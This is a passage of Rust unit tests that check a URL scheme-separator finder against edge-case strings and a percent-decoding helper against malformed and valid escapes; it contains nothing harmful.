            "a:b:/c://",
            "http:/x ftp://h",
            "é:://",
            "::///",
            "x:/",
            "ab:",
            "a://b://c",
        ] {
            for from in (0..=text.len()).filter(|&i| text.is_char_boundary(i)) {
                let expected = text[from..].find("://").map(|p| from + p);
                assert_eq!(
                    super::scheme_separator(text.as_bytes(), from),
                    expected,
                    "{text:?} {from}"
                );
            }
        }
        assert_eq!(super::scheme_separator(b"ab", 5), None);
    }

    #[test]
    fn percent_decoding() {
        assert_eq!(percent_decode("a%20b+c", true), "a b c");
        assert_eq!(percent_decode("a%2", false), "a%2");
        assert_eq!(percent_decode("%zz%41", false), "%zzA");
        assert_eq!(percent_decode("%ff", false), "\u{fffd}");
    }
}
